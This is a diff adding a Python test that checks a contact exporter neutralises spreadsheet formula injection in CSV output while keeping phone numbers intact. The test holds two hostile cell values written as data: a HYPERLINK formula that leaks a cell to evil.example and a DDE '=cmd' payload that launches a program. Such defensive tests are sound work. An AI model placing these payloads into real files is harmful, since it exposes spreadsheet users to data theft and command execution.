@@ -39,6 +39,26 @@ def test_a_table_has_a_column_for_each_field():
     }
 
 
+def test_no_cell_of_a_table_is_run_by_a_spreadsheet_and_telephone_numbers_stay_as_they_are():
+    evil = '=HYPERLINK("https://evil.example/?"&A2,"click")'
+    eve = Contact(
+        "p2",
+        {"phone": ["+8613900001111", "+8613900002222"], "user_id": ["u1", "=cmd|'/C calc'!A0"]},
+        {"city": evil, "balance": -5, "mobile": "+86 139 0000 3333"},
+    )
+    text = written("csv", ["phone", "user_id", "city", "balance", "mobile"], eve)
+    (row,) = csv.DictReader(io.StringIO(text, newline=""))
+    assert row == {
+        "profile_id": "p2",
+        "phone": "+8613900001111;+8613900002222",
+        "user_id": "u1;'=cmd|'/C calc'!A0",
+        "city": f"'{evil}",
+        "balance": "-5",
+        "mobile": "+86 139 0000 3333",
+    }
+    assert json.loads(written("jsonl", ["city"], eve))["city"] == evil
+
+
 def test_json_lines_keep_the_kinds_of_values():
     assert json.loads(written("jsonl", ["email", "nested", "gone"], ADA)) == {
         "profile_id": "p1",
